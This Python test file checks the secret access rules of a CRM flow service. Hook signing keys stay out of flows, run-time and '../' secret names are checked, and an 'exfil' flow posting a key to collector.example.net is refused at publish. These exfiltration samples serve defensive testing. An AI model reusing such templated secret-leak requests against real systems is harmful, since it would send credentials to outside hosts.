"""Secrets at run time: an http_request step of a flow saved before the rule (or naming its
secret at run time) reads only FLOW_… secrets; a hook's signing key never leaves, from the
environment or from SSM, and nothing is sent when a step asks for one."""

from __future__ import annotations

import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import boto3
import pytest

from functions import net, secrets, steps
from functions.errors import CrmError, FlowRejected, SecretNotGranted
from functions.publish import publish
from functions.store import contacts
from tests.functions.step_payloads import payload

HOOK_KEY = "whsec-hook-signing-key-5b7d1e"
FLOW_TOKEN = "flow-token-a41c9e"


class Collector:
    """An HTTP server standing in for the marketer's host: it records every request."""

    def __init__(self) -> None:
        self.requests: list[dict[str, str]] = []
        seen = self.requests

        class Handler(BaseHTTPRequestHandler):
            def do_POST(self) -> None:
                self.rfile.read(int(self.headers.get("Content-Length") or 0))
                seen.append(dict(self.headers))
                self.send_response(200)
                self.send_header("Content-Type", "application/json")
                self.send_header("Content-Length", "2")
                self.end_headers()
                self.wfile.write(b"{}")

            def log_message(self, *args: Any) -> None:
                pass

        self.httpd = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = self.httpd.server_address[1]
        threading.Thread(target=self.httpd.serve_forever, args=(0.05,), daemon=True).start()

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.port}/in"


@pytest.fixture
def collector(monkeypatch: pytest.MonkeyPatch) -> Iterator[Collector]:
    running = Collector()
    monkeypatch.setenv(net.ALLOW_ENV, f"127.0.0.1:{running.port}")
    yield running
    running.httpd.shutdown()
    running.httpd.server_close()


@pytest.fixture(autouse=True)
def configured(monkeypatch: pytest.MonkeyPatch) -> Iterator[None]:
    monkeypatch.setenv("CRMFLOW_SECRET_HOOK_LEAD_CAPTURE", HOOK_KEY)
    monkeypatch.setenv("CRMFLOW_SECRET_FLOW_CRM_TOKEN", FLOW_TOKEN)
    monkeypatch.delenv(secrets.SSM_PREFIX_ENV, raising=False)
    secrets.clear_cache()
    yield
    secrets.clear_cache()


@pytest.fixture
def sara(store) -> str:
    return contacts.create_contact({"email": "sara@example.com"}).contact_id


def run(params: dict[str, Any], contact_id: str, **extra: Any) -> dict[str, Any]:
    return steps.run("http_request", payload("http_request", params, contact_id, **extra))


def refused(params: dict[str, Any], contact_id: str, **extra: Any) -> CrmError:
    with pytest.raises(CrmError) as caught:
        run(params, contact_id, **extra)
    return caught.value


@pytest.mark.parametrize(
    "params",
    [
        {"headers": {"X-Leak": "{{ secrets.HOOK_LEAD_CAPTURE }}"}},
        {"headers": {"X-Leak": "{{ secrets['HOOK_LEAD_CAPTURE'] }}"}},
        {"auth_secret": "HOOK_LEAD_CAPTURE"},
    ],
)
def test_a_hook_signing_key_never_reaches_a_flow(collector, sara, params) -> None:
    error = refused({"url": collector.url, **params}, sara)
    assert type(error).__name__ == "Crm.SecretNotGranted" and isinstance(error, SecretNotGranted)
    assert (
        str(error) == "secret 'HOOK_LEAD_CAPTURE' is a hook's signing key; flows can never read it"
    )
    assert collector.requests == []  # nothing was sent anywhere


def test_a_secret_name_chosen_at_run_time_is_checked_too(collector, sara) -> None:
    params = {"url": collector.url, "headers": {"X-Leak": "{{ secrets[trigger.which] }}"}}
    error = refused(params, sara, trigger={"which": "HOOK_LEAD_CAPTURE"})
    assert isinstance(error, SecretNotGranted) and HOOK_KEY not in str(error)
    error = refused(params, sara, trigger={"which": "../HOOK_LEAD_CAPTURE"}, state="again")
    assert isinstance(error, SecretNotGranted)
    assert collector.requests == []


def test_a_secret_not_granted_says_how_to_grant_it(collector, sara, monkeypatch) -> None:
    monkeypatch.setenv("CRMFLOW_SECRET_API_TOKEN", "tok-not-for-flows")
    error = refused({"url": collector.url, "auth_secret": "API_TOKEN"}, sara)
    assert isinstance(error, SecretNotGranted)
    assert "'API_TOKEN' is not granted to flows" in str(error)
    assert "CRMFLOW_SECRET_FLOW_API_TOKEN" in str(error)
    assert "tok-not-for-flows" not in str(error) and collector.requests == []


def test_granted_secrets_arrive(collector, sara) -> None:
    params = {
        "url": collector.url,
        "auth_secret": "FLOW_CRM_TOKEN",
        "headers": {"X-Token": "{{ secrets.FLOW_CRM_TOKEN }}"},
    }
    assert run(params, sara)["status"] == 200
    [seen] = collector.requests
    assert (seen["Authorization"], seen["X-Token"]) == (f"Bearer {FLOW_TOKEN}", FLOW_TOKEN)


def test_ssm_holds_both_but_flows_read_only_flow_names(collector, sara, monkeypatch) -> None:
    monkeypatch.delenv("CRMFLOW_SECRET_HOOK_LEAD_CAPTURE")
    monkeypatch.delenv("CRMFLOW_SECRET_FLOW_CRM_TOKEN")
    monkeypatch.setenv(secrets.SSM_PREFIX_ENV, "/crmflow/test/")
    ssm = boto3.client("ssm")
    for name, value in (("HOOK_LEAD_CAPTURE", HOOK_KEY), ("FLOW_CRM_TOKEN", "ssm-flow-tok")):
        ssm.put_parameter(Name=f"/crmflow/test/{name}", Value=value, Type="SecureString")
    error = refused({"url": collector.url, "auth_secret": "HOOK_LEAD_CAPTURE"}, sara)
    assert isinstance(error, SecretNotGranted)
    assert secrets.secret("HOOK_LEAD_CAPTURE") == HOOK_KEY  # crmflow's own door still opens
    run({"url": collector.url, "auth_secret": "FLOW_CRM_TOKEN"}, sara, state="ok")
    assert [r["Authorization"] for r in collector.requests] == ["Bearer ssm-flow-tok"]


def test_publishing_a_flow_that_reads_a_hook_key_is_refused(store) -> None:
    document = {
        "schema_version": "1.0",
        "id": "exfil",
        "name": "Exfil",
        "trigger": {"id": "start", "kind": "webhook", "params": {"email_key": "email"}},
        "nodes": [
            {
                "id": "call",
                "kind": "http_request",
                "params": {
                    "url": "https://collector.example.net/in",
                    "headers": {"X-Leak": "{{ secrets.HOOK_LEAD_CAPTURE }}"},
                },
            }
        ],
        "edges": [{"from": "start", "to": "call"}],
    }
    with pytest.raises(FlowRejected) as caught:
        publish(document)
    [issue] = caught.value.report["errors"]
    assert issue["path"] == "$.nodes[0].params.headers.X-Leak" and issue["node_id"] == "call"
    assert "secret 'HOOK_LEAD_CAPTURE' is a hook's signing key" in issue["message"]
